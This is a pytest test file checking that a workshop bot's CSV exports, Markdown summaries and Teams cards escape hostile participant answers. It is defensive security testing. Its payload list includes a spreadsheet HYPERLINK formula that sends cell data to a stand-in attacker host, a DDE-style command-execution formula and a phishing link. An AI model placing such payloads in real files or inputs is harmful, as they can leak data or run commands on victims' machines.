"""A participant's answer cannot become a formula, a link or markup in what others open.

Answers with formula starts and Markdown are posted through the real app (local mode, a
running workshop); then the workshop's data export CSV (``storage.privacy``), the summary
CSV and Markdown (``analysis.summary``), the terms CSV and the Teams summary cards are built
from what was stored. Every formula-like cell starts with ``'``; a participant's
``[link](https://…)`` is escaped in Markdown and cards (no live link); and the words are
all still there, verbatim once the escaping is undone.
"""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import Iterator
from typing import Any

import pytest

from analysis.escape import CSV_FORMULA_STARTS, csv_cell, escape_markdown
from tests.hostile._databases import DATABASES, bot_on
from tests.hostile.conftest import BackgroundBot

LINK = "[Se lønningerne her](https://evil.example/phish)"
HOSTILE_ANSWERS = [
    '=HYPERLINK("https://evil.example/?d="&A1;"Klik")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3 er bedre end ingenting",
    "@SUM(A1:A9) viser alt",
    "\tTabulator foran",
    "\rVognretur foran",
    f"Vi skal dele viden fra kurserne på {LINK} hver uge, **fed** <b>html</b> `kode` _kursiv_.",
]
# What a spreadsheet would run: a cell starting with a formula character.
FORMULA = re.compile(r"^[=+\-@\t\r]")
# A live Markdown link in card or Markdown text: [text](url) without escaping.
LIVE_LINK = re.compile(r"(?<!\\)\[[^\]]*(?<!\\)\]\(https?://")


def _unescape(text: str) -> str:
    return re.sub(r"\\(.)", r"\1", text)


@pytest.fixture(scope="module", params=DATABASES)
def answered(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[BackgroundBot, int]]:
    with bot_on(request.param, request, tmp_path_factory.mktemp("inject")) as bot:
        assert bot.card is not None
        for index, text in enumerate(HOSTILE_ANSWERS, start=50):
            activity = bot.driver.answer_activity(bot.card, index, via="card", text=text)
            status, body = bot.post(activity)
            assert status == 200, body
        yield bot, bot.card.workshop_id


def _stored(bot: BackgroundBot, workshop_id: int) -> list[Any]:
    return [a for a in bot.all_answers() if a.workshop_id == workshop_id]


def test_the_hostile_answers_were_stored_verbatim(answered: tuple[BackgroundBot, int]) -> None:
    bot, wid = answered
    texts = {a.text for a in _stored(bot, wid)}
    for text in HOSTILE_ANSWERS:
        assert text.strip() in texts or text in texts, text


def test_the_data_export_csv_neutralises_formulas(
    answered: tuple[BackgroundBot, int], tmp_path: Any
) -> None:
    from storage import privacy

    bot, wid = answered
    export = bot.call(privacy.export_workshop(bot.db, wid))
    _, csv_path = privacy.write_export(export, tmp_path)
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if FORMULA.match(c)], "a cell a spreadsheet would run"
    exported = {row[rows[0].index("text")] for row in rows[1:]}
    for answer in export.answers:
        assert csv_cell(answer.text) in exported  # the words, behind at most one '


def _with_answers(texts: list[str]) -> Any:
    """The Danish fixture workshop with ``texts`` added to its first question's answers."""
    import dataclasses

    from tests.analysis.summary_fixtures import danish_workshop

    data = danish_workshop()
    first = data.questions[0]
    extra = tuple(
        dataclasses.replace(first.answers[i % len(first.answers)], id=f"x-{i}", text=text)
        for i, text in enumerate(texts)
    )
    hostile = dataclasses.replace(first, answers=first.answers + extra)
    return dataclasses.replace(data, questions=(hostile, *data.questions[1:]))


def test_the_summary_csv_and_markdown_escape_participants(
    answered: tuple[BackgroundBot, int],
) -> None:
    from analysis.summary import build_summary
    from analysis.summary.export import to_csv
    from analysis.summary.render_md import render_markdown

    bot, wid = answered
    stored = [a.text for a in _stored(bot, wid)]
    summary = build_summary(_with_answers(stored))
    rows = list(csv.reader(io.StringIO(to_csv(summary))))
    assert len(rows) > 1
    assert not [c for row in rows for c in row if FORMULA.match(c)]
    quoted = [row[rows[0].index("text")] for row in rows[1:]] if "text" in rows[0] else []
    assert any(LINK in cell for cell in quoted) or not quoted
    markdown = render_markdown(summary)
    assert not LIVE_LINK.search(markdown), "a participant's link is live in the Markdown"
    assert not re.search(r"(?<!\\)<b>", markdown), "raw HTML from a participant"
    shown = [q.text for question in summary.questions for q in question.quotes]
    assert any(LINK in text for text in shown), "the summary does not quote the hostile answer"
    for text in shown:
        assert escape_markdown(" ".join(text.split())) in markdown


def test_cards_show_a_participants_link_as_text(answered: tuple[BackgroundBot, int]) -> None:
    bot, _ = answered
    ack = bot.call(bot.driver.command("slut"))
    assert ack.ok
    # The summary reaches the facilitator's 1:1 chat once it is made (spaCy: seconds).
    before = len(bot.connector.sent_activities())
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        bot.drain()
        new = bot.connector.sent_activities()[before:]
        if any(a.get("attachments") and "1on1" in a["conversation"]["id"] for a in new):
            break
        time.sleep(0.5)
    cards = [
        block["text"]
        for activity in bot.connector.sent_activities()
        for attachment in activity.get("attachments") or []
        for block in _blocks(attachment.get("content"))
        if "lønningerne" in block.get("text", "")
    ]
    assert cards
    for text in cards:
        assert not LIVE_LINK.search(text)
        assert LINK in _unescape(text)  # the words are all there


def _blocks(node: Any) -> Iterator[dict[str, Any]]:
    if isinstance(node, dict):
        if node.get("type") == "TextBlock":
            yield node
        for value in node.values():
            yield from _blocks(value)
    elif isinstance(node, list):
        for value in node:
            yield from _blocks(value)


def test_the_summary_card_escapes_proposals() -> None:
    from analysis.summary import build_summary
    from dialogs.summary_card import summary_card

    data = _with_answers([])
    import dataclasses

    first = data.questions[0]
    linked = tuple(  # the link inside a sentence, as a phisher would put it
        dataclasses.replace(a, text=a.text.replace(" ", f" {LINK} ", 1)) for a in first.answers
    )
    data = dataclasses.replace(
        data, questions=(dataclasses.replace(first, answers=linked), *data.questions[1:])
    )
    summary = build_summary(data)
    assert any("lønningerne" in p.text for p in summary.proposals), "no proposal quotes a link"
    card = summary_card(summary, workshop_id=1)
    texts = [block["text"] for block in _blocks(card)]
    assert any("lønningerne" in t for t in texts)
    assert not [t for t in texts if LIVE_LINK.search(t)]


@pytest.mark.parametrize("start", CSV_FORMULA_STARTS)
def test_the_terms_csv_neutralises_a_formula_term(start: str) -> None:
    import networkx as nx

    from analysis.export import terms_csv
    from analysis.network import TermNetwork
    from analysis.terms import Term

    term = Term(
        label=f"{start}cmd",
        key=(f"{start}cmd",),
        frequency=3,
        document_frequency=2,
        unit_frequency=2,
        score=1.0,
    )
    network = TermNetwork(
        graph=nx.Graph(), clusters=(), weight="association", threshold=0.0, min_cooccurrence=1
    )
    text = terms_csv([term], network)
    first_cell = text.split("\n", 1)[1]
    assert first_cell.startswith((f"'{start}cmd", f"\"'{start}cmd")), repr(text)
